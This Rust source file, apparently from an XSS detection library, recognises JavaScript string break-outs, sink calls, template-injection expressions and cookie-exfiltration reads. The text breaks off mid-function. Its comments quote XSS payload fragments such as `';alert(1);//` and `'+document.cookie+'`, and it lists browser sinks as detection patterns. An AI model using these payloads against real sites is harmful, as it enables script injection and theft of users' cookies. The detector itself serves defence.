//! JavaScript structure: a value that, inside a JS string, closes the string and continues
//! with code that calls a script sink (`';alert(1);//`, `\";alert(1)//`, `'-alert(1)-'`), a
//! value that *is* such a call (it lands in an event handler or `javascript:` URL), and
//! client-side template expressions that reach the `Function` constructor
//! (`{{constructor.constructor('…')()}}`).

/// How many quote positions are tried as break-out points.
const MAX_QUOTES: usize = 32;

/// Identifier bytes: bit 0 may start one (`A-Za-z_$`), bit 1 may continue one (and digits).
/// A table lookup, as the identifier scans run over every byte of code-like values.
static IDENT: [u8; 256] = {
    let mut t = [0u8; 256];
    let mut c = 0;
    while c < 256 {
        let b = c as u8;
        if b.is_ascii_alphabetic() || b == b'_' || b == b'$' {
            t[c] = 3;
        } else if b.is_ascii_digit() {
            t[c] = 2;
        }
        c += 1;
    }
    t
};

pub(crate) fn is_ident_start(b: u8) -> bool {
    IDENT[usize::from(b)] & 1 != 0
}

pub(crate) fn is_ident(b: u8) -> bool {
    IDENT[usize::from(b)] & 2 != 0
}

/// Globals and members through which injected script acts. These are the browser's API, the
/// thing a payload must reach to do harm. JavaScript names are case-sensitive, so only the
/// API's own spelling reaches it (`Alert(1)` in a title, `ALERT` run nothing); VBScript's
/// `MsgBox` is matched in any case, as IE's VBScript engine reads it.
fn sink(name: &[u8]) -> bool {
    if name.len() > 24 {
        return false;
    }
    name.eq_ignore_ascii_case(b"msgbox")
        || matches!(
            name,
            b"alert"
                | b"prompt"
                | b"confirm"
                | b"eval"
                | b"setTimeout"
                | b"setInterval"
                | b"execScript"
                | b"function"
                | b"Function"
                | b"constructor"
                | b"fetch"
                | b"import"
                | b"document"
                | b"window"
                | b"self"
                | b"top"
                | b"parent"
                | b"frames"
                | b"globalThis"
                | b"this"
                | b"location"
                | b"XMLHttpRequest"
                | b"atob"
                | b"String"
                | b"fromCharCode"
                | b"open"
                | b"print"
                | b"console"
                | b"navigator"
                | b"cookie"
                | b"write"
                | b"writeln"
                | b"innerHTML"
                | b"outerHTML"
                | b"insertAdjacentHTML"
                | b"src"
                | b"href"
                | b"domain"
                | b"body"
                | b"createElement"
                | b"appendChild"
                | b"sendBeacon"
                | b"unescape"
                | b"decodeURIComponent"
                | b"Reflect"
                | b"jQuery"
                // jQuery's script loaders, reached through `$` as well ([`jquery_loader`])
                | b"getScript"
                | b"globalEval"
        )
}

/// Whether `word` names a sink the injected code could reach (`alert`, `eval`, `document`…).
pub(super) fn names_sink(word: &[u8]) -> bool {
    direct_sink(word) || sink(word)
}

/// Sinks that may be called directly at the start of a value (no member access needed).
const DIRECT_SINKS: [&[u8]; 12] = [
    // (a handler's scope chain holds its element: `insertAdjacentHTML('beforeend',name)`
    // in `onerror=` calls the element's method)
    b"insertadjacenthtml",
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"settimeout",
    b"setinterval",
    b"fetch",
    b"execscript",
    b"msgbox",
    b"atob",
    b"import",
];

/// Shortest and longest name in [`DIRECT_SINKS`].
const DIRECT_MIN: usize = 4;
const DIRECT_MAX: usize = 18;

/// For each name length, a bit per first letter (`a` = bit 0) of the [`DIRECT_SINKS`] of that
/// length: most identifiers (`span`, `class`, `return`) fail this test before any compare.
static DIRECT_FIRST: [u32; DIRECT_MAX + 1] = super::first_letters_by_length(&DIRECT_SINKS);

/// The last letters (`a` = bit 0) of the [`DIRECT_SINKS`].
const DIRECT_LAST: u32 = {
    let mut m = 0;
    let mut k = 0;
    while k < DIRECT_SINKS.len() {
        let n = DIRECT_SINKS[k];
        m |= 1 << (n[n.len() - 1] - b'a');
        k += 1;
    }
    m
};

/// Whether `name` (any case) is one of the [`DIRECT_SINKS`]. The table test is inlined into
/// the identifier scans (it rejects almost every word); the compare is not.
#[inline(always)]
fn direct_sink(name: &[u8]) -> bool {
    let n = name.len();
    if !(DIRECT_MIN..=DIRECT_MAX).contains(&n) {
        return false;
    }
    // the sinks are all letters: a first byte that does not fold to a letter leaves
    let first = name[0] | 0x20;
    if !first.is_ascii_lowercase() || DIRECT_FIRST[n] & (1 << (first - b'a')) == 0 {
        return false;
    }
    is_direct_sink_name(name)
}

/// The compare behind [`direct_sink`]: JavaScript's spelling of the name (its identifiers
/// are case-sensitive: `Prompt(1)` calls nothing), VBScript's `MsgBox` in any case.
fn is_direct_sink_name(name: &[u8]) -> bool {
    DIRECT_SINKS.iter().zip(DIRECT_SPELLINGS).any(|(s, js)| {
        s.len() == name.len()
            && if *s == b"msgbox" {
                s.eq_ignore_ascii_case(name)
            } else {
                js == name
            }
    })
}

/// The [`DIRECT_SINKS`] as JavaScript spells them, in order.
const DIRECT_SPELLINGS: [&[u8]; 12] = [
    b"insertAdjacentHTML",
    b"alert",
    b"prompt",
    b"confirm",
    b"eval",
    b"setTimeout",
    b"setInterval",
    b"fetch",
    b"execScript",
    b"msgbox",
    b"atob",
    b"import",
];

/// Read an expression head at `i`: `ident(.ident | [..])*` and what ends it. Returns
/// (saw a sink, saw member access, index after the chain).
fn chain(b: &[u8], mut i: usize) -> Option<(bool, bool, bool, usize)> {
    // an empty array literal as the root (`[].at.constructor(…)`) reaches the same
    // prototypes as a name does
    let array_root = b.get(i..).is_some_and(|r| r.starts_with(b"[]."));
    if array_root {
        i += 3;
    }
    if i >= b.len() || !is_ident_start(b[i]) {
        return None;
    }
    let mut any_sink = false;
    let mut direct = false;
    let mut member = array_root;
    let mut parts = 0;
    let mut last_sink;
    loop {
        let st = i;
        while i < b.len() && is_ident(b[i]) && i - st < 40 {
            i += 1;
        }
        let name = &b[st..i];
        last_sink = sink(name);
        if last_sink {
            any_sink = true;
        }
        // `$event.view[…]`: the event's window indexed like `top[…]` ([`event_view`])
        if parts == 1 && event_view(b, st, i) {
            last_sink = true;
        }
        if parts == 0 && direct_sink(name) {
            direct = true;
        }
        parts += 1;
        if parts > 8 {
            break;
        }
        // `self  [ "alert" ]`: spaces before a computed member
        if last_sink && b.get(skip_ws(b, i)) == Some(&b'[') {
            i = skip_ws(b, i);
        }
        match b.get(i) {
            Some(b'.') if b.get(i + 1).is_some_and(|&c| is_ident_start(c)) => {
                member = true;
                i += 1;
            }
            Some(b'[') => {
                // computed member: skip to the matching `]` (bounded)
                member = true;
                let close = b[i..].iter().take(128).position(|&c| c == b']')?;
                // `top['al'+'ert']` hides the member name behind a global: count it as a
                // sink use when the object is one
                if last_sink {
                    any_sink = true;
                }
                i += close + 1;
                if b.get(i) == Some(&b'.') && b.get(i + 1).is_some_and(|&c| is_ident_start(c)) {
                    i += 1;
                } else {
                    break;
                }
            }
            _ => break,
        }
    }
    Some((any_sink, direct, member, i))
}

/// Objects at the root of a member chain (or right before a called member) that hand out
/// the browser API.
fn root_global(name: &[u8]) -> bool {
    if global_object(name) {
        return true;
    }
    let mut buf = [0u8; 14];
    if name.len() > buf.len() {
        return false;
    }
    for (d, c) in buf.iter_mut().zip(name) {
        *d = c.to_ascii_lowercase();
    }
    matches!(
        &buf[..name.len()],
        b"this"
            | b"location"
            | b"navigator"
            | b"string"
            | b"function"
            | b"reflect"
            | b"jquery"
            | b"xmlhttprequest"
            | b"constructor"
            // members that hand out another window or document
            | b"parentwindow"
            | b"contentwindow"
            | b"defaultview"
            | b"opener"
            | b"ownerdocument"
    )
}

/// Whether `b[os..oe]` is the `view` of `$event.view` or `event.view`: the `view` of a DOM
/// UI event is the window it happened in. AngularJS (`ng-click`), Vue (`v-on:`/`@`) and
/// Alpine (`x-on:`) hand handler expressions the event as `$event`, inline handlers as
/// `event`, so `$event.view.alert(1)` reaches the browser API as `window.alert(1)` does.
fn event_view(b: &[u8], os: usize, oe: usize) -> bool {
    &b[os..oe] == b"view"
        && os >= 6
        && &b[os - 6..os] == b"event."
        && (os == 6 || b[os - 7] == b'$' || !is_ident(b[os - 7]))
}

/// The length of a window alias (`$event.view`, `event.view`, see [`event_view`]) that
/// `chain` starts with, ending the chain or followed by a member.
fn window_alias_len(chain: &[u8]) -> Option<usize> {
    let n = if chain.starts_with(b"$event.view") {
        11
    } else if chain.starts_with(b"event.view") {
        10
    } else {
        return None;
    };
    matches!(chain.get(n), None | Some(b'.' | b'[')).then_some(n)
}

/// A member call that reaches no sink: `stream.write(buf)`, `IMAP4.open()`, `window.refresh()`
/// (curses), `console.log(x)`, `String.prototype.trim()`. Only a chain rooted at a browser
/// global can reach the API, and then through a sink member, a computed member, or a call
/// that passes something (`window.open('//x')`, `location.replace(u)`). `chain` is the text
/// of the chain, `args` what follows it starting at `(`.
fn inert_member_call(chain: &[u8], args: &[u8]) -> bool {
    if args.first() == Some(&b'=') && args.get(1) != Some(&b'=') {
        return inert_member_assignment(chain, &args[1..]);
    }
    if args.first() != Some(&b'(') {
        return false;
    }
    // `$event.view.alert(1)`: the event's window stands for `window`
    if let Some(n) = window_alias_len(chain) {
        return inert_member_call_on(b"window", &chain[n..], args);
    }
    let root_end = chain
        .iter()
        .position(|&c| !is_ident(c))
        .unwrap_or(chain.len());
    let root = &chain[..root_end];
    if jquery_loader(root, &chain[root_end..]) {
        return false;
    }
    inert_member_call_on(root, &chain[root_end..], args)
}

/// `$.getScript(url)` / `$.globalEval(code)`: jQuery's short name `$` with the members that
/// fetch and run a script or run a string as one (as `jQuery.getScript` does). Other `$`
/// calls (`$('#id')`, `$.ajax`) select or fetch data and are judged as before.
fn jquery_loader(root: &[u8], members: &[u8]) -> bool {
    root == b"$"
        && (members.eq_ignore_ascii_case(b".getscript")
            || members.eq_ignore_ascii_case(b".globaleval"))
}

/// [`inert_member_call`] for the chain whose root is `root` and whose members (from the
/// first `.` or `[`) are `members`.
fn inert_member_call_on(root: &[u8], members: &[u8], args: &[u8]) -> bool {
    if direct_sink(root) {
        return false;
    }
    // `[].at.constructor(name)()`, `x.constructor.constructor(code)()`: any function's
    // constructor is `Function`, which compiles its string argument, and the call right
    // after runs it, whatever object the chain starts from
    if members.ends_with(b".constructor") && calls_the_result(args) {
        return false;
    }
    if !root_global(root) || root.eq_ignore_ascii_case(b"console") {
        return true;
    }
    if memchr::memchr(b'[', members).is_some() {
        return false;
    }
    // (`location.replace(u)`, `location.assign('x')` navigate whatever they are given)
    let navigates = root.eq_ignore_ascii_case(b"location");
    let mut parts = members.split(|&c| c == b'.').filter(|p| !p.is_empty());
    if parts.any(sink) {
        return false;
    }
    // an empty argument list passes nothing to a non-sink member; nor do literals and
    // plain variables (`window.scrollTo(0, 0)`, `document.getElementById('main').value`),
    // when the result is at most read: no markup, URL or browser data goes in, nothing
    // is called on what comes out
    // (`String`'s own members, once its sinks are out, only compute a string: the window's
    // `name` passed to one, `String.format("%s", name)`, goes nowhere but into that string)
    let data_only = root.eq_ignore_ascii_case(b"string");
    args[1..].iter().find(|c| !c.is_ascii_whitespace()) == Some(&b')')
        || (!navigates
            && plain_operands_in(args, 1, b')', data_only).is_some_and(|e| read_then_ends(args, e)))
}

/// Whether `lit` holds a percent escape a decoder (`unescape`, `decodeURIComponent`)
/// turns into a character: `%` and two hex digits, or `%u` and four.
fn percent_escape(lit: &[u8]) -> bool {
    memchr::memchr_iter(b'%', lit).any(|p| {
        let r = &lit[p + 1..];
        let hex = |n: usize| r.len() >= n && r[..n].iter().all(u8::is_ascii_hexdigit);
        hex(2)
            || (matches!(r.first(), Some(b'u' | b'U'))
                && r.len() >= 5
                && r[1..5].iter().all(u8::is_ascii_hexdigit))
    })
}

/// Longest string literal [`plain_operand`] reads.
const MAX_PLAIN_LITERAL: usize = 128;

/// Most operands [`plain_operands`] reads.
const MAX_PLAIN_OPERANDS: usize = 8;

/// The end of the operand at `b[i..]` when it is one that carries nothing a browser acts
/// on: a number, a literal keyword, a string with no scheme, host, markup or escape (`'main'`,
/// `"Home"`), or a plain variable that names no sink, global or window data (`text`).
fn plain_operand(b: &[u8], i: usize) -> Option<usize> {
    plain_operand_in(b, i, false)
}

/// [`plain_operand`]; `name_ok`: the window's `name` counts as a plain variable (the
/// callee only computes data from it).
fn plain_operand_in(b: &[u8], i: usize, name_ok: bool) -> Option<usize> {
    if let Some(e) = numeric_literal(b, i).or_else(|| literal_keyword(b, i)) {
        return Some(e);
    }
    let c = *b.get(i)?;
    if matches!(c, b'\'' | b'"') {
        let body = &b[i + 1..b.len().min(i + 1 + MAX_PLAIN_LITERAL)];
        let close = memchr::memchr(c, body)?;
        let lit = &body[..close];
        // (a `/` makes a path or URL: a resource to load, `register('/uploads/sw.js')`)
        // (a `%` is an escape only before two hex digits, `%3C`, or `%u` and four: a
        // format string's `%s`, `%d`, `%5.2f`, `%%` decodes to nothing)
        let plain = !lit
            .iter()
            .any(|&x| matches!(x, b':' | b'/' | b'<' | b'>' | b'\\' | b'&' | b'$' | b'`'))
            && !percent_escape(lit)
            && !lit.windows(3).any(|w| w.eq_ignore_ascii_case(b".js"));
        return plain.then_some(i + 1 + close + 1);
    }
    if !is_ident_start(c) {
        return None;
    }
    let mut e = i;
    while e < b.len() && is_ident(b[e]) && e - i < 40 {
        e += 1;
    }
    let w = &b[i..e];
    let plain = !names_sink(w)
        && !root_global(w)
        && (name_ok || w != b"name")
        && !matches!(b.get(e), Some(b'.' | b'(' | b'[' | b'`'));
    plain.then_some(e)
}

/// The index after `close` when `b[i..]` is [`plain_operand`]s separated by commas (or
/// none), then `close`.
fn plain_operands(b: &[u8], i: usize, close: u8) -> Option<usize> {
    plain_operands_in(b, i, close, false)
}

/// [`plain_operands`], with [`plain_operand_in`]'s `name_ok`.
fn plain_operands_in(b: &[u8], i: usize, close: u8, name_ok: bool) -> Option<usize> {
    let mut k = skip_ws(b, i);
    if b.get(k) == Some(&close) {
        return Some(k + 1);
    }
    for _ in 0..MAX_PLAIN_OPERANDS {
        k = skip_ws(b, plain_operand_in(b, k, name_ok)?);
        match b.get(k) {
            Some(&c) if c == close => return Some(k + 1),
            Some(b',') => k = skip_ws(b, k + 1),
            _ => return None,
        }
    }
    None
}

/// Whether `b[i..]` only reads members of what came before (`.value`, `.innerHTML`) and the
/// statement ends: nothing is called on the result, assigned through it or passed on. A
/// sink member read and dropped (`document.getElementById('main').innerHTML`, a line a
/// developer quotes) writes no markup and runs nothing; writing it needs the `=` or the
/// call that the end test refuses.
///
/// One more call on the result is as inert when its member is no sink and its operands are
/// plain with no code in their strings (no `(`, `=`): `document.getElementById('btn')
/// .addEventListener('click', handleClick)` registers the page's own function by name,
/// `….classList.add('open')` sets a class. `….setAttribute('onclick','alert(1)')` writes
/// code into a handler and stays a call.
fn read_then_ends(b: &[u8], mut i: usize) -> bool {
    let mut calls = 0;
    for _ in 0..8 {
        if b.get(i) != Some(&b'.') {
            break;
        }
        let st = i + 1;
        let mut e = st;
        while e < b.len() && is_ident(b[e]) && e - st < 40 {
            e += 1;
        }
        if e == st {
            return false;
        }
        i = e;
        if b.get(e) == Some(&b'(') {
            calls += 1;
            if calls > 2 || names_sink(&b[st..e]) || registers_callback_sink(&b[st..e]) {
                return false;
            }
            let Some(end) = plain_operands(b, e + 1, b')') else {
                return false;
            };
            if memchr::memchr2(b'(', b'=', &b[e + 1..end - 1]).is_some() {
                return false;
            }
            i = end;
        }
    }
    matches!(b.get(skip_ws(b, i)), None | Some(b';' | b'\n' | b'\r'))
}

/// An assignment to a member of a browser global that acts through nothing: no sink member,
/// no computed member, not `location` (`location.protocol='javascript'` navigates), and the
/// value a [`plain_operand`] (`document.title = 'Home'`, `window.onload = init;`: the page
/// changes its title, or calls its own function when it loads). `rhs` follows the `=`.
fn inert_member_assignment(chain: &[u8], rhs: &[u8]) -> bool {
    let root_end = chain
        .iter()
        .position(|&c| !is_ident(c))
        .unwrap_or(chain.len());
    let (root, members) = chain.split_at(root_end);
    if !root_global(root)
        || root.eq_ignore_ascii_case(b"location")
        || members.is_empty()
        || memchr::memchr(b'[', members).is_some()
        || members.split(|&c| c == b'.').any(sink)
    {
        return false;
    }
    plain_operand(rhs, skip_ws(rhs, 0)).is_some_and(|e| read_then_ends(rhs, e))
}

/// A template substitution that starts by acting through the browser: `${location=name}`,
/// `${x.innerHTML=name}`, `${location.assign(name)}`. Reflected into a page's template
/// literal the substitution runs as code; `${price}`, `${user.name}` and `${document.title}`
/// only read. (Direct sinks called there, `${alert(1)}`, are the sink scan's.) At most 16
/// substitutions are examined.
fn substitution_acts(b: &[u8]) -> bool {
    // (built once: `memmem::find_iter` builds its searcher on every call)
    static SUBSTITUTION: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"${"));
    SUBSTITUTION.find_iter(b).take(16).any(|p| {
        let k = skip_ws(b, p + 2);
        let Some((any_sink, _direct, member, e)) = chain(b, k) else {
            return false;
        };
        let at = skip_ws(b, e);
        any_sink && call_or_assign(b, at) && !(member && inert_member_call(&b[k..e], &b[at..]))
    })
}

/// Whether `args` (starting at `(`) is an argument list whose closing parenthesis is
/// followed at once by another call: `(code)()`. Bounded to the first 256 bytes.
fn calls_the_result(args: &[u8]) -> bool {
    let mut depth = 0usize;
    for (k, &c) in args.iter().enumerate().take(256) {
        match c {
            b'(' => depth += 1,
            b')' => {
                depth = depth.saturating_sub(1);
                if depth == 0 {
                    return args.get(k + 1) == Some(&b'(');
                }
            }
            _ => {}
        }
    }
    false
}

/// Does a call (`(` or a tagged template) or an assignment (`=` but not `==`) follow at `i`?
fn call_or_assign(b: &[u8], i: usize) -> bool {
    match b.get(i) {
        Some(b'(') | Some(b'`') => true,
        Some(b'=') => b.get(i + 1) != Some(&b'='),
        _ => false,
    }
}

fn skip_ws(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && matches!(b[i], b' ' | b'\t' | b'\n' | b'\r' | 0x0b | 0x0c) {
        i += 1;
    }
    i
}

/// The end of the blanks at `i` (as [`skip_ws`], and JavaScript's other line terminators
/// U+2028 and U+2029), and whether they hold a line terminator (LF, CR, U+2028, U+2029).
fn skip_ws_and_line_terminators(b: &[u8], mut i: usize) -> (usize, bool) {
    let mut line_break = false;
    // (each round moves past at least one byte or stops)
    while i < b.len() {
        match b[i] {
            b' ' | b'\t' | 0x0b | 0x0c => i += 1,
            b'\n' | b'\r' => {
                line_break = true;
                i += 1;
            }
            0xe2 if b.get(i + 1) == Some(&0x80) && matches!(b.get(i + 2), Some(0xa8 | 0xa9)) => {
                line_break = true;
                i += 3;
            }
            _ => break,
        }
    }
    (i, line_break)
}

/// A quote (optionally escaped with `\`) followed by an operator or statement separator and
/// then a call or assignment through a script sink.
///
/// `m`: the classes of `s`'s bytes ([`super::classes`]), which say whether it has a `<`.
/// `known`: the value's attribute delimiters and quote-free bits as
/// [`attribute_delimiters`] finds them, when the tag pass already read them ([`Delimiters`]).
pub fn string_breakout(
    s: &str,
    m: u32,
    sinks: &mut Sinks,
    known: Option<(&[usize], u128)>,
) -> bool {
    let b = s.as_bytes();
    // where direct sinks and cookie reads start, found once for the whole value (when a
    // first window needs them) so that only the windows holding one are examined
    let mut cookies: Option<Marks> = None;
    // (only a value with a `<` opens a tag; the buffer is not even zeroed for the others)
    let mut store = None;
    // bit k: the value between delimiters 2k and 2k + 1 holds no quote of any kind
    let mut quote_free = 0u128;
    let delimiters: &[usize] = if let Some((at, free)) = known.filter(|_| m & super::class::LT != 0)
    {
        quote_free = free;
        at
    } else if m & super::class::LT != 0 {
        let out = store.insert([0usize; MAX_DELIMITERS]);
        // Delimiters are `"` and `'`: none lies after the last of them, and the scan (left
        // to right, each pair closed within what it has read) finds the same pairs in the
        // text up to it, without walking the tags after it.
        let last = memchr::memrchr2(b'"', b'\'', b).map_or(0, |p| p + 1);
        let n = attribute_delimiters(&b[..last], out, &mut quote_free);
        &out[..n]
    } else {
        &[]
    };
    let mut tried = 0;
    // quotes of each kind (`'`, `"`, backtick) seen so far
    let mut seen = [0usize; 3];
    // the delimiters are in order, as the quotes are visited: one cursor walks them
    let mut next_delimiter = 0;
    let mut i = 0;
    while i < b.len() && tried < MAX_QUOTES {
        let Some(q) = memchr::memchr3(b'\'', b'"', b'`', &b[i..]) else {
            break;
        };
        i += q + 1;
        while delimiters.get(next_delimiter).is_some_and(|&d| d < i - 1) {
            next_delimiter += 1;
        }
        if delimiters.get(next_delimiter) == Some(&(i - 1)) {
            // an opening delimiter whose value holds no quote: the next quote is its closing
            // one, a delimiter too; go past it without another search
            if next_delimiter % 2 == 0 && quote_free & (1 << (next_delimiter / 2)) != 0 {
                i = delimiters[next_delimiter + 1] + 1;
                next_delimiter += 2;
            }
            continue;
        }
        // Reflected inside a string, the value's first quote of that kind ends the page's
        // string, the second opens a new one, and so on: only odd-numbered quotes lead into
        // code. After an even one (`['one,two']):`, `f("a", "b")`) the text is back inside
        // a string, as in code samples whose quotes pair up.
        let k = match b[i - 1] {
            b'\'' => 0,
            b'"' => 1,
            _ => 2,
        };
        seen[k] += 1;
        if seen[k] % 2 == 0 {
            continue;
        }
        tried += 1;
        let (mut j, line_break) = skip_ws_and_line_terminators(b, i);
        if postfix_on_literal(&b[i..j], &b[j..]) {
            continue;
        }
        // closing brackets and separators between the string and the new code
        let mut seps = 0;
        // A line break after the closed string ends the statement by automatic semicolon
        // insertion (`var q='';⏎alert(1)//'`: a string literal followed by a name is no
        // expression, so the parser ends the statement at the line terminator and runs the
        // next line), as a `;` does. JavaScript's line terminators are LF, CR, U+2028 and
        // U+2029 (string literals may hold the last two since ES2019, so they reach code).
        // A run of backticks at a line end is a Markdown code fence (```` ```\n ````), whose
        // next line is the code shown, not a template closed by the value.
        let mut saw_sep = line_break && !(k == 2 && i >= 2 && b[i - 2] == b'`');
        // `'(alert(1))//`, `` `[alert(1)]// ``, `'.concat(alert(1))//`: the closed literal is
        // called, indexed or has a method called, and the arguments or key run first
        if let Some(open) = literal_call_or_index(b, j) {
            j = skip_ws(b, open + 1);
            saw_sep = true;
        }
        while j < b.len() && seps < 8 {
            match b[j] {
                b';' | b'+' | b'-' | b'*' | b'/' | b'%' | b'|' | b'&' | b'^' | b',' | b'?'
                | b':' | b'<' | b'>' | b'=' | b'!' | b'~' | b'\n' => saw_sep = true,
                b')' | b'}' | b']' => {}
                b' ' | b'\t' | b'\r' => {}
                // the keyword operators join a string to code too: `'in alert(1) in'`,
                // `'instanceof alert(1) instanceof'` (the operand runs before the test)
                b'i' => match keyword_operator(&b[j..]) {
                    Some(len) => {
                        saw_sep = true;
                        j += len;
                        seps += 1;
                        continue;
                    }
                    None => break,
                },
                _ => break,
            }
            // `//` starts a comment, not code
            if b[j] == b'/' && b.get(j + 1) == Some(&b'/') {
                saw_sep = false;
                break;
            }
            j += 1;
            seps += 1;
        }
        if !saw_sep {
            continue;
        }
        let wend = b.len().min(j + 256);
        let window = &b[j..wend];
        if sinks.marks(b).any_in(j, wend) && code_mentions_sink(window) {
            return true;
        }
        // exfiltration: the cookie or web storage read into injected code
        // (`'+document.cookie+'`, `'+localStorage.token;//`)
        if cookies
            .get_or_insert_with(|| {
                let mut m = Marks::new();
                cookie_reads(b, &mut m);
                m
            })
            .any_in(j, wend.saturating_sub(COOKIE.len() - 1))
            && reads_secret(window)
        {
            return true;
        }
        if let Some((any_sink, _direct, member, e)) = chain(b, j) {
            // `alert (1)` is valid JS, but prose puts spaces there ("open (24h)"): accept a
            // space before the call only after a member access.
            let at = if member { skip_ws(b, e) } else { e };
            if any_sink
                && call_or_assign(b, at)
                && !(member && inert_member_call(&b[j..e], &b[at..]))
            {
                return true;
            }
        }
    }
    false
}

/// Where the `(` or `[` opens that calls or indexes the string literal closed right before
/// `j` (`'(…)`, `'[…]`), or calls one of its methods (`'.concat(…)`, `'.at(…)`).
fn literal_call_or_index(b: &[u8], j: usize) -> Option<usize> {
    match b.get(j)? {
        b'(' | b'[' => Some(j),
        b'.' if b.get(j + 1).is_some_and(|&c| is_ident_start(c)) => {
            let mut k = j + 1;
            while k < b.len() && is_ident(b[k]) && k - j <= 40 {
                k += 1;
            }
            (b.get(k) == Some(&b'(')).then_some(k)
        }
        _ => None,
    }
}

/// The length of JavaScript's keyword operator `in` or `instanceof` at the start of `b`,
/// standing alone as a word (a blank after it).
fn keyword_operator(b: &[u8]) -> Option<usize> {
    [&b"instanceof"[..], &b"in"[..]].iter().find_map(|k| {
        (b.starts_with(k) && b.get(k.len()).is_some_and(|c| matches!(c, b' ' | b'\t')))
            .then_some(k.len())
    })
}

/// Whether the code after a closed string literal starts with `++` or `--` on the same line
/// (`gap`: the blanks between): a postfix update of a literal is an early SyntaxError, so the
/// whole script never runs. This is how a command-line flag written as inline code reads
/// when the text lands in a template literal (``use `--print` to see it``: the backtick
/// closes the page's template, `--print` would decrement a literal). After a line break the
/// `--` is a prefix update of a new statement, which does run.
fn postfix_on_literal(gap: &[u8], rest: &[u8]) -> bool {
    !gap.contains(&b'\n')
        && !gap.contains(&b'\r')
        && (rest.starts_with(b"--") || rest.starts_with(b"++"))
}

/// Most attribute-value quotes remembered per value (two per value: one bit of a `u128` per
/// value in [`attribute_delimiters`]).
pub(super) const MAX_DELIMITERS: usize = 256;

/// The cookie read that exfiltration payloads splice into code.
const COOKIE: &[u8] = b"document.cookie";

/// Most positions a [`Marks`] remembers; past that every window is examined.
const MAX_MARKS: usize = 64;

/// Start positions of something a window test looks for, found in one pass over the value,
/// so the test runs only on windows that hold one. With more than [`MAX_MARKS`] the marks
/// say "maybe" everywhere and the window test decides, as it would without them.
struct Marks {
    at: [usize; MAX_MARKS],
    len: usize,
    overflow: bool,
}

impl Marks {
    fn new() -> Marks {
        Marks {
            at: [0; MAX_MARKS],
            len: 0,
            overflow: false,
        }
    }

    /// Record `p`; false once full (the finder may stop).
    fn push(&mut self, p: usize) -> bool {
        if self.len == MAX_MARKS {
            self.overflow = true;
            return false;
        }
        self.at[self.len] = p;
        self.len += 1;
        true
    }

    /// Whether a mark starts in `from..to` (or there were too many to remember).
    fn any_in(&self, from: usize, to: usize) -> bool {
        self.overflow || self.at[..self.len].iter().any(|&p| p >= from && p < to)
    }
}

/// The direct sinks a value names, found in one identifier pass on the first request and
/// shared by [`string_breakout`] and [`sink_call`], which both look for them in the same
/// value.
pub(super) struct Sinks {
    /// Filled by the first question (the marks are not even zeroed for values that never
    /// ask).
    found: Option<FoundSinks>,
    /// [`may_name_direct_sink`] already said yes for this value ([`Sinks::may_any`]): the
    /// scan need not search for the names again.
    named: bool,
}

/// The direct sinks that [`code_mentions_sink`] could act on: identifier runs that start a
/// token (`9alert` is one token, not `alert`), name a direct sink, and are followed by a byte
/// that its rules need after a sink (`(`, a backtick, `?.(`, `;`, `,`, `)`, `}`, `]`). Only a template
/// substitution (`${alert}`) needs none of them; a value holding `${` has all its sinks
/// noted. Both are supersets of what the rules accept, so they only skip work.
struct FoundSinks {
    /// Some such run exists.
    any: bool,
    /// Where such runs begin. A window that starts at a token boundary holds such a run
    /// only if one starts inside it; a run cut by the window's end has nothing after it and
    /// cannot complete a call.
    starts: Marks,
}

impl Sinks {
    pub(super) fn new() -> Sinks {
        Sinks {
            found: None,
            named: false,
        }
    }

    /// The direct sinks of `b` (always the same value), scanned on the first call.
    fn found(&mut self, b: &[u8]) -> &FoundSinks {
        let named = self.named;
        self.found.get_or_insert_with(|| {
            if named {
                FoundSinks::scan_runs(b)
            } else {
                FoundSinks::scan(b)
            }
        })
    }

    /// Whether an identifier of `b` names a direct sink.
    fn any(&mut self, b: &[u8]) -> bool {
        self.found(b).any
    }

    /// False when `b` surely names no direct sink ([`Sinks::any`] would say so): what the
    /// scan found, or else one vectorized search for the names ([`may_name_direct_sink`]),
    /// whose "no" is remembered as the scan's answer.
    fn may_any(&mut self, b: &[u8]) -> bool {
        if let Some(f) = &self.found {
            return f.any;
        }
        if may_name_direct_sink(b) {
            self.named = true;
            return true;
        }
        self.found = Some(FoundSinks::none());
        false
    }

    /// Where the direct sinks of `b` that start a token begin.
    fn marks(&mut self, b: &[u8]) -> &Marks {
        &self.found(b).starts
    }
}

impl FoundSinks {
    /// Most text has few of the bytes that must follow a sink, and a run before one is
    /// read backwards from it: no pass over every identifier of the value.
    fn scan(b: &[u8]) -> FoundSinks {
        // (without a sink's spelling no run is one: nothing would be noted)
        if !may_name_direct_sink(b) {
            return FoundSinks::none();
        }
        FoundSinks::scan_runs(b)
    }

    /// [`FoundSinks::scan`] without the search for the names first.
    fn scan_runs(b: &[u8]) -> FoundSinks {
        let mut f = FoundSinks::none();
        if super::has_pair(b, b'$', b'{') {
            f.every_run(b);
            return f;
        }
        // (`}` and the end: a sink assigned as the last statement of a block or value,
        // `{onerror=alert}throw 1`; `]`: a sink stored in an array, `[alert][0](1)`)
        let after = memchr::memchr3_iter(b'(', b'`', b'?', b)
            .chain(memchr::memchr3_iter(b';', b',', b')', b))
            .chain(memchr::memchr2_iter(b'}', b']', b))
            .chain(std::iter::once(b.len()));
        for p in after {
            if !f.note(b, p) {
                break;
            }
        }
        f
    }

    /// No sink found (yet).
    fn none() -> FoundSinks {
        FoundSinks {
            any: false,
            starts: Marks::new(),
        }
    }

    /// Note the token-starting run that ends at `end`, if it is a direct sink; false once
    /// the marks overflow (they then say "maybe" everywhere: nothing more to learn).
    fn note(&mut self, b: &[u8], end: usize) -> bool {
        // most bytes before `(` `,` `;` … end no direct sink (digits, quotes, spaces, `s`)
        let last = end.checked_sub(1).map_or(0, |p| b[p] | 0x20);
        if !last.is_ascii_lowercase() || DIRECT_LAST & (1 << (last - b'a')) == 0 {
            return true;
        }
        // back over the run, no further than a direct sink can be long
        let mut st = end;
        while st > 0 && end - st <= DIRECT_MAX && is_ident(b[st - 1]) {
            st -= 1;
        }
        let token_start = st == 0 || !is_ident(b[st - 1]);
        if !token_start || st == end || !is_ident_start(b[st]) || !direct_sink(&b[st..end]) {
            return true;
        }
        self.any = true;
        self.starts.push(st)
    }

    /// Note every token-starting run that is a direct sink, whatever follows it.
    fn every_run(&mut self, b: &[u8]) {
